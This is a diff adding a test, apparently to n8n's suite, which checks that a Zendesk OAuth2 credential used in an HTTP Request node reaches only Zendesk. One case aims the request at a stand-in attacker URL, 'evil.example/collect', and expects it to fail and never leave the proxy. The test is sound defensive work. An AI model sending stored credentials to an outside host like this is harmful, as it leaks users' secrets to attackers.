@@ -152,6 +152,47 @@ describe('the credential’s Test button', () => {
 	});
 });
 
+it('the credential goes nowhere but to Zendesk, not even from an HTTP Request node', async () => {
+	const { rest, n8n, proxy } = playground;
+	const { credential } = await createCredential('Zendesk for requests');
+	const hook = (path: string, url: string) => ({
+		name: `Request ${path}`,
+		nodes: [
+			{
+				id: 'hook',
+				name: 'Hook',
+				type: 'n8n-nodes-base.webhook',
+				typeVersion: 2.1,
+				position: [0, 0],
+				parameters: { path, responseMode: 'lastNode' },
+				webhookId: path,
+			},
+			{
+				id: 'request',
+				name: 'Request',
+				type: 'n8n-nodes-base.httpRequest',
+				typeVersion: 4.3,
+				position: [220, 0],
+				parameters: {
+					url,
+					authentication: 'predefinedCredentialType',
+					nodeCredentialType: 'zendeskUsersOAuth2Api',
+				},
+				credentials: { zendeskUsersOAuth2Api: credential },
+			},
+		],
+		connections: { Hook: { main: [[{ node: 'Request', type: 'main', index: 0 }]] } },
+	});
+	const ask = async (path: string, url: string) => {
+		await rest.publish(await rest.createWorkflow(hook(path, url)));
+		await n8n.untilKnown(`${n8n.url}/webhook/${path}`);
+		return (await fetch(`${n8n.url}/webhook/${path}`)).status;
+	};
+	expect(await ask('to-zendesk', 'https://acme.zendesk.com/api/v2/users/me')).toBe(200);
+	expect(await ask('to-evil', 'https://evil.example/collect')).toBe(500);
+	expect(proxy.outsiders.join()).not.toContain('evil.example');
+});
+
 describe('signing in through the browser', () => {
 	it.each(['authorizationCode', 'pkce'])('%s', async (grantType) => {
 		const { sim, rest, n8n } = playground;
